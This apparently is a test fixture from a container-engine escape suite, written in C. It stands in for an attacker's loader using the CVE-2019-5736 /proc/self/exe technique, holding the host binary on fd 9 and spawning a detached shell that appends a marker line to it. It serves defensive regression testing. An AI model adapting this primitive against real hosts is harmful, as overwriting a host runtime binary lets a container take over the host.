/*
 * The escape suite's stand-in for an attacker's dynamic loader (CVE-2019-5736,
 * x86-64 only, built static without libc). A test mounts it at the path of
 * the host engine binary's ELF interpreter inside a container and runs a
 * "#!/proc/self/exe" script there: if the exec resolves /proc/self/exe to
 * the host binary, the kernel maps that binary and starts this program as
 * its loader, in a process whose /proc/self/exe is the host file. It says
 * so on stdout ("selfexe: reached PATH"), keeps an O_PATH fd of the binary
 * on fd 9, and leaves a shell behind that appends a marker line to it (only
 * ever the test's own copy of the engine binary) once no process runs it.
 */
#include <asm/unistd.h>

#include "init/nolibc.h"

static unsigned long slen(const char *s)
{
	unsigned long n = 0;

	while (s[n])
		n++;
	return n;
}

static void say(const char *s)
{
	SYS(__NR_write, 1, s, slen(s));
}

void start_c(long *sp)
{
	int argc = (int)sp[0];
	char **envp = (char **)(sp + 1) + argc + 1, link[4096];
	static char *const sh[] = {"sh", "-c",
				   "i=0; while [ $i -lt 200 ]; do "
				   "if echo ENGINE-ESCAPE-MARKER >> /proc/self/fd/9; then echo 'selfexe: "
				   "wrote the binary'; exit 0; fi; "
				   "sleep 0.05; i=$((i + 1)); done 2>/dev/null",
				   0};
	long n = SYS(__NR_readlink, "/proc/self/exe", link, sizeof(link) - 1), fd;

	link[n < 0 ? 0 : n] = '\0';
	say("selfexe: reached ");
	say(link);
	say("\n");
	fd = SYS(__NR_open, "/proc/self/exe", 010000000 /* O_PATH */, 0);
	if (fd >= 0 && fd != 9) {
		SYS(__NR_dup2, fd, 9, 0);
		SYS(__NR_close, fd, 0, 0);
	}
	/* The shell must not be a fork of this process: that would keep the
	 * binary mapped, and busy, for as long as it runs. */
	if (sys6(__NR_clone, 17 /* SIGCHLD */, 0, 0, 0, 0, 0) == 0) {
		SYS(__NR_setsid, 0, 0, 0);
		SYS(__NR_execve, "/bin/sh", sh, envp);
	}
	for (;;)
		SYS(__NR_exit_group, 0, 0, 0);
}
